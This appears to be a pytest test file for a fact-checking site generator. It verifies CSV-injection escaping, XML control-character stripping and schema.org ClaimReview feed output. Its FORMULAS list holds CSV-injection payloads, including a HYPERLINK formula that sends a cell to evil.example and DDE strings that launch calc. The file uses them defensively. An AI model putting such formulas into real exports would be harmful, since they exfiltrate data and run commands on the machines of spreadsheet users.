"""The data exports hold whatever text a newsroom or an imported sheet wrote, and stay safe to
open: no claims.csv cell runs as a spreadsheet formula (OWASP "CSV injection"), and feed.xml and
sitemap.xml stay well-formed XML whatever control characters the text carries."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from helpers import REVIEWER, write_project
from hypothesis import given
from hypothesis import strategies as st

from factcheck.build import build_site
from factcheck.exports import spreadsheet_safe, xml_chars

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Every character XML 1.0 forbids that YAML's double-quoted escapes can make (YAML itself
# refuses them raw), and the non-characters U+FFFE and U+FFFF.
CONTROLS = "".join(chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])
CONTROLS += "\ufffe\uffff"


def _yaml_escaped(text: str) -> str:
    """``text`` as a YAML double-quoted scalar, every character escaped."""
    return '"' + "".join(f"\\U{ord(c):08x}" for c in text) + '"'


def _project(
    root: Path,
    *,
    summary: str,
    claimant: str,
    headline: str,
    title: str,
    claim_lines: str = "",
    verdict_lines: str = "",
) -> Path:
    """One published claim; ``claim_lines`` and ``verdict_lines`` are more front matter of the
    claim and of its verdict."""
    return write_project(
        root,
        {
            "factcheck.yaml": (
                f"title: {title}\nbase_url: https://check.example.org/\n"
                f"description: {title}\norganization:\n  name: {title}\n"
                "ratings:\n  - id: misleading\n    label: Misleading\n    value: 2\n"
                "review:\n  min_reviewers: 1\n"
            ),
            "content/claims/the-claim.md": (
                f"---\nsummary: {summary}\nclaimant: {claimant}\ndate: 2026-03-10\n"
                f"tags: [{claimant}]\n{claim_lines}---\n"
            ),
            "content/reviewers/sam.md": REVIEWER,
            "content/verdicts/the-claim/sam.md": (
                "---\nclaim: the-claim\nreviewer: sam\nrating: misleading\nstatus: approved\n"
                f"date: 2026-03-12\nheadline: {headline}\n{verdict_lines}---\nReasons.\n"
            ),
        },
    )


def _built_feed(root: Path, output: Path) -> list[dict[str, Any]]:
    """The elements of the data feed (claimreview.json) of ``root`` built into ``output``."""
    result = build_site(root, output=output, search=False)
    assert result.ok, result.diagnostics.format_text()
    feed: list[dict[str, Any]] = json.loads((output / "claimreview.json").read_text("utf-8"))[
        "dataFeedElement"
    ]
    return feed


@pytest.fixture(scope="module")
def formula_csv(tmp_path_factory: pytest.TempPathFactory) -> str:
    """claims.csv of a site with one published claim per formula, the formula in its summary,
    claimant and headline (and the separator case of the next test)."""
    root = tmp_path_factory.mktemp("formulas")
    files: dict[str, str] = {"content/reviewers/sam.md": REVIEWER}
    for index, formula in enumerate([*FORMULAS, "a;=1+1"]):
        quoted = _yaml_escaped(formula)
        files[f"content/claims/c{index}.md"] = (
            f"---\nsummary: {quoted}\nclaimant: {quoted}\ndate: 2026-03-10\n---\n"
        )
        files[f"content/verdicts/c{index}.md"] = (
            f"---\nclaim: c{index}\nreviewer: sam\nrating: accurate\nstatus: approved\n"
            f"date: 2026-03-12\nheadline: {quoted}\n---\nReasons.\n"
        )
    project = write_project(root / "p", files)
    result = build_site(project, output=root / "site", search=False)
    assert result.ok, result.diagnostics.format_text()
    return (root / "site" / "claims.csv").read_bytes().decode("utf-8")


@pytest.mark.parametrize("index", range(len(FORMULAS)))
def test_no_csv_cell_starts_a_formula(formula_csv: str, index: int) -> None:
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(formula_csv, newline=""))}
    row = rows[f"c{index}"]
    for column in ("summary", "claimant", "headline"):
        assert row[column] == "'" + FORMULAS[index], column  # read back: shown as text
    for cell in (c for line in csv.reader(io.StringIO(formula_csv, newline="")) for c in line):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_text_cells_are_quoted_so_no_separator_starts_a_new_cell(formula_csv: str) -> None:
    # A spreadsheet set to split on ';' would read an unquoted "a;=1+1" as two cells, the
    # second a formula.
    header, *rows = formula_csv.split("\r\n")
    assert header.startswith('"id","summary",')
    assert any(row.startswith(f'"c{len(FORMULAS)}","a;=1+1",') for row in rows)


def test_numbers_and_ordinary_text_are_left_alone() -> None:
    assert spreadsheet_safe(-2) == -2
    assert spreadsheet_safe(2.5) == 2.5
    assert spreadsheet_safe("Mayor's office") == "Mayor's office"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe("a=b") == "a=b"


def test_control_characters_never_make_the_feed_or_sitemap_invalid(tmp_path: Path) -> None:
    quoted = _yaml_escaped(f"A{CONTROLS}B")
    root = _project(tmp_path / "p", summary=quoted, claimant=quoted, headline=quoted, title=quoted)
    result = build_site(root, output=tmp_path / "site", search=False)
    assert result.ok, result.diagnostics.format_text()
    atom = "{http://www.w3.org/2005/Atom}"
    feed = ET.parse(tmp_path / "site" / "feed.xml").getroot()  # raises if not well-formed
    assert feed.findtext(f"{atom}title") == "AB"
    assert feed.findtext(f"{atom}subtitle") == "AB"
    (entry,) = feed.findall(f"{atom}entry")
    assert entry.findtext(f"{atom}title") == "AB"
    assert entry.findtext(f"{atom}summary") == "Misleading: AB"
    sitemap = ET.parse(tmp_path / "site" / "sitemap.xml").getroot()
    assert len(sitemap) > 3


def test_xml_chars_keeps_everything_xml_allows() -> None:
    allowed = "\t\n\r -~\u0085\u00a0\ud7ff\ue000\ufffd\U00010000\U0010ffff é 漢字"
    assert xml_chars(allowed) == allowed
    assert xml_chars(CONTROLS) == ""
    assert xml_chars("a\x00b\x1bc\ufffed") == "abcd"


@given(st.text())
def test_escaping_is_the_standard_librarys(text: str) -> None:
    """exports.escape and quoteattr do what xml.sax.saxutils does (they replace it only to
    spare its imports), after dropping what XML forbids."""
    from xml.sax import saxutils

    from factcheck.exports import escape, quoteattr, xml_chars

    assert escape(text) == saxutils.escape(xml_chars(text))
    assert quoteattr(text) == saxutils.quoteattr(xml_chars(text))


@pytest.fixture(scope="module")
def example_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from helpers import copy_example

    root = copy_example(tmp_path_factory.mktemp("example") / "project")
    site = root.parent / "site"
    result = build_site(root, output=site, search=False)
    assert result.ok, result.diagnostics.format_text()
    return site


@pytest.fixture(scope="module")
def example_feed(example_site: Path) -> dict[str, dict[str, Any]]:
    """The example project's data feed (claimreview.json), each element by its claim's page."""
    data = json.loads((example_site / "claimreview.json").read_text("utf-8"))
    return {e["url"].rsplit("/", 1)[-1]: e for e in data["dataFeedElement"]}


def test_a_claim_pages_claimreview_names_the_organisation(example_site: Path) -> None:
    """The JSON-LD of a claim's page: schema.org's context, and the organisation as its author,
    with its address and its logo made absolute (factcheck.yaml gives logo.svg)."""
    html = (example_site / "claims/harbour-tunnel-overrun.html").read_text("utf-8")
    start = html.index('<script type="application/ld+json">') + len(
        '<script type="application/ld+json">'
    )
    data = json.loads(html[start : html.index("</script>", start)])
    assert data["@context"] == "https://schema.org"
    assert data["author"] == {
        "@type": "Organization",
        "name": "Harbour City Fact Check",
        "url": "https://check.example.org/",
        "logo": "https://check.example.org/logo.svg",
    }


def test_a_claims_appearances_are_in_its_claimreview(
    example_feed: dict[str, dict[str, Any]],
) -> None:
    claim = example_feed["harbour-tunnel-overrun.html"]["item"][0]["itemReviewed"]
    webcast = {
        "@type": "CreativeWork",
        "url": "https://webcast.harbourcity.example.org/council/2026-04-16",
        "headline": "Full council meeting, 16 April 2026 (webcast, at 1:42:10)",
    }
    radio = {
        "@type": "CreativeWork",
        "url": "https://radio.example.com/harbour-drive/2026-04-17",
        "headline": "Harbour Drive, Harbour Radio, 17 April 2026",
    }
    assert claim["firstAppearance"] == webcast
    assert claim["appearance"] == [webcast, radio]


def test_a_corrected_check_says_when_in_the_data_feed(
    example_feed: dict[str, dict[str, Any]],
) -> None:
    """dateModified, on the feed's element and its ClaimReview, is what `publish` compares the
    next time (a rating never changes silently); a check never corrected has none."""
    corrected = example_feed["transit-budget-doubled.html"]
    assert corrected["dateModified"] == "2026-03-14"
    assert corrected["item"][0]["dateModified"] == "2026-03-14"
    never = [e for e in example_feed.values() if "dateModified" not in e["item"][0]]
    assert never and all("dateModified" not in e for e in never)


def test_a_media_claims_mediareview_is_in_the_data_feed(
    example_feed: dict[str, dict[str, Any]],
) -> None:
    items = example_feed["harbour-road-flood-photo.html"]["item"]
    assert [i["@type"] for i in items] == ["ClaimReview", "MediaReview"]
    media = items[1]
    assert "@context" not in media  # (the element has it)
    assert media["mediaAuthenticityCategory"] == "https://schema.org/DecontextualizedContent"
    assert media["itemReviewed"]["mediaItemAppearance"][0]["@type"] == "ImageObject"


def test_an_appearance_without_a_title_has_no_headline(tmp_path: Path) -> None:
    """Each appearance in the ClaimReview, in order, the first also as firstAppearance; a
    headline only for one with a title. (Built here, not by a shared fixture, so that mutation
    testing credits this test with the code it runs.)"""
    root = _project(
        tmp_path / "p",
        summary="S.",
        claimant="A",
        headline="H.",
        title="T",
        claim_lines="appearances:\n  - url: https://a.example.net/1\n"
        "  - url: https://b.example.net/2\n    title: Morning radio\n",
    )
    claim_data = _built_feed(root, tmp_path / "site")[0]["item"][0]["itemReviewed"]
    untitled = {"@type": "CreativeWork", "url": "https://a.example.net/1"}
    titled = {
        "@type": "CreativeWork",
        "url": "https://b.example.net/2",
        "headline": "Morning radio",
    }
    assert claim_data["firstAppearance"] == untitled
    assert claim_data["appearance"] == [untitled, titled]


def test_a_data_feed_element_says_when_it_changed_and_carries_its_mediareview(
    tmp_path: Path,
) -> None:
    """A corrected media check in the data feed: dateModified on the element and on its
    ClaimReview (what `publish` compares next time), and its MediaReview after the ClaimReview,
    without a context of its own. (Built here, not by a shared fixture, so that mutation
    testing credits this test with the code it runs.)"""
    root = _project(
        tmp_path / "p",
        summary="S.",
        claimant="A",
        headline="H.",
        title="T",
        claim_lines="media:\n  - type: image\n    url: https://a.example.net/p.jpg\n"
        "    alt: A photo.\n",
        verdict_lines="media_rating: edited\ncorrections:\n  - date: 2026-03-14\n"
        "    kind: correction\n    note: Fixed a figure.\n",
    )
    (element,) = _built_feed(root, tmp_path / "site")
    assert (element["dateCreated"], element["dateModified"]) == ("2026-03-12", "2026-03-14")
    claim_review, media_review = element["item"]
    assert (claim_review["@type"], claim_review["dateModified"]) == ("ClaimReview", "2026-03-14")
    assert media_review["@type"] == "MediaReview" and "@context" not in media_review
    assert media_review["mediaAuthenticityCategory"] == "https://schema.org/EditedOrCroppedContent"
